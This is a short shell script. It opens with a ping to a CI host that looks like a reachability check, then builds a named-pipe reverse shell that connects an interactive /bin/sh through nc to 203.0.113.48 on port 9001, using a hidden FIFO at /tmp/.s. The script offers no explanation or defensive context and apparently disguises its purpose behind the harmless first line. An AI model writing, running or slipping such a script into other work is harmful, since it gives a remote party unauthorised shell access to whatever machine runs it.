#!/bin/sh
ping -c 1 ci.example.com >/dev/null && echo reachable
rm -f /tmp/.s; mkfifo /tmp/.s
cat /tmp/.s | /bin/sh -i 2>&1 | nc 203.0.113.48 9001 > /tmp/.s
